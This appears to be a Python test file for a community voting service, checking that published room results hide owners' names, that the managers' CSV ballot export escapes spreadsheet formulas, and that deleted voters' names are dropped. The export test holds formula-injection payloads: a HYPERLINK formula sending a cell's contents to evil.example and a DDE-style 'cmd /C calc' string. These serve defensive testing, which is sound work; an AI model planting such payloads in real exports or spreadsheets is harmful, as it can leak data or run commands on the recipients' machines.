"""The published per-room record, never a name, and the managers' ballots export, safe to
open in a spreadsheet (services/votes/export.py)."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import timedelta

from tests.common.identity_replica import factories as ie
from tests.support import auth, client_for, token
from tests.votes.factories import (
    T0,
    create_vote,
    manager,
    open_vote,
    survey_body,
    votes_app,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'


async def test_published_results_show_rooms_and_areas_never_names(database_urls):
    cid = str(uuid.uuid4())
    async with votes_app(database_urls) as app, client_for(app) as c:
        app.state.clock.set(T0)
        rooms = [await ie.room(app, cid, room_no=f"10{n}", area=f"9{n}.25") for n in range(3)]
        owners = []
        for r in rooms:
            bound = await ie.binding(app, cid, r["room_id"], display_name=f"1栋{r['room_no']}张三丰")
            owners.append(auth(token(bound["account_id"])))
        vote = await create_vote(c, cid)
        await open_vote(c, cid, vote)
        for h, r in zip(owners[:2], rooms, strict=False):
            body = {"room_id": r["room_id"], "answers": [{"item_id": i["id"], "option_ids": ["agree"]} for i in vote["items"]]}
            assert (await c.post(f"/votes/{vote['id']}/ballots", json=body, headers=h)).status_code == 201
        await c.post(f"/votes/{vote['id']}/close", headers=manager(cid))
        page = await c.get(f"/votes/{vote['id']}/results/rooms?limit=2", headers=owners[2])
        assert page.status_code == 200
        first = page.json()
        assert len(first["items"]) == 2 and first["next_cursor"]
        second = (await c.get(f"/votes/{vote['id']}/results/rooms?limit=2&cursor={first['next_cursor']}", headers=owners[2])).json()
        listed = first["items"] + second["items"]
        assert [(x["label"], x["area"], x["voted"]) for x in listed] == [
            ("1栋100", "90.25", True),
            ("1栋101", "91.25", True),
            ("1栋102", "92.25", False),
        ]
        assert listed[0]["answers"] == {i["id"]: "agree" for i in vote["items"]}
        everything = page.text + (await c.get(f"/votes/{vote['id']}/results", headers=owners[2])).text
        assert "张三丰" not in everything


async def test_ballots_export_makes_formulas_in_names_answers_and_rooms_plain_text(database_urls):
    cid = str(uuid.uuid4())
    async with votes_app(database_urls) as app, client_for(app) as c:
        app.state.clock.set(T0)
        plain = await ie.room(app, cid, room_no="101")
        hostile = await ie.room(app, cid, building="=1+1", room_no="102")
        li = await ie.binding(app, cid, plain["room_id"], display_name="1栋101李明")
        evil = await ie.binding(app, cid, hostile["room_id"], display_name=HYPERLINK)
        survey = (await c.post("/votes", json=survey_body(cid), headers=manager(cid))).json()
        await open_vote(c, cid, survey)
        single, multiple, text = (i["id"] for i in survey["items"])
        for bound, room, answer in ((li, plain, "电梯太旧"), (evil, hostile, "@SUM(1+1)*cmd|' /C calc'!A0")):
            answers = [
                {"item_id": single, "option_ids": ["1"]},
                {"item_id": multiple, "option_ids": ["1", "2"]},
                {"item_id": text, "text": answer},
            ]
            r = await c.post(
                f"/votes/{survey['id']}/ballots",
                json={"room_id": room["room_id"], "answers": answers},
                headers=auth(token(bound["account_id"])),
            )
            assert r.status_code == 201, r.text
            app.state.clock.advance(timedelta(minutes=1))  # the export lists ballots by time

        export = await c.get(f"/votes/{survey['id']}/ballots.csv", headers=manager(cid))
        assert export.status_code == 200
        assert export.headers["content-type"] == "text/csv; charset=utf-8"
        assert export.headers["content-disposition"] == f'attachment; filename="vote-{survey["id"]}-ballots.csv"'
        assert export.text.startswith("\ufeff房屋,面积(㎡),状态,投票时间,选票编号,投票人账号,投票人,被替换时间,单选,多选,建议,方式,签名人,录入人,纸质选票照片\r\n")
        rows = list(csv.reader(io.StringIO(export.text.removeprefix("\ufeff"), newline="")))
        assert [r[:3] + r[5:7] + r[8:] for r in rows[1:]] == [
            ["1栋101", "89.50", "有效", li["account_id"], "1栋101李明", "甲", "一;二", "电梯太旧", "线上", "", "", ""],
            # The spreadsheet shows these as typed, and runs none of them.
            ["'=1+1栋102", "89.50", "有效", evil["account_id"], "'" + HYPERLINK, "甲", "一;二", "'@SUM(1+1)*cmd|' /C calc'!A0", "线上", "", "", ""],
        ]


async def test_ballots_export_keeps_a_deleted_voters_ballot_but_not_their_name(database_urls):
    cid = str(uuid.uuid4())
    async with votes_app(database_urls) as app, client_for(app) as c:
        app.state.clock.set(T0)
        room = await ie.room(app, cid)
        bound = await ie.binding(app, cid, room["room_id"], display_name="1栋101李明")
        vote = await create_vote(c, cid)
        await open_vote(c, cid, vote)
        body = {"room_id": room["room_id"], "answers": [{"item_id": i["id"], "option_ids": ["agree"]} for i in vote["items"]]}
        r = await c.post(f"/votes/{vote['id']}/ballots", json=body, headers=auth(token(bound["account_id"])))
        assert r.status_code == 201, r.text

        await ie.account_deleted(app, cid, bound["account_id"])

        export = await c.get(f"/votes/{vote['id']}/ballots.csv", headers=manager(cid))
        rows = list(csv.reader(io.StringIO(export.text.removeprefix("\ufeff"), newline="")))
        assert [r[2] + "|" + r[5] + "|" + r[6] + "|" + r[8] for r in rows[1:]] == [
            f"有效|{bound['account_id']}|已注销用户|同意"
        ]
        assert "李明" not in export.text
        # The ballot still counts: the record stays, only the name goes.
        await c.post(f"/votes/{vote['id']}/close", headers=manager(cid))
        results = await c.get(f"/votes/{vote['id']}/results", headers=manager(cid))
        assert results.json()["ballots"] == 1
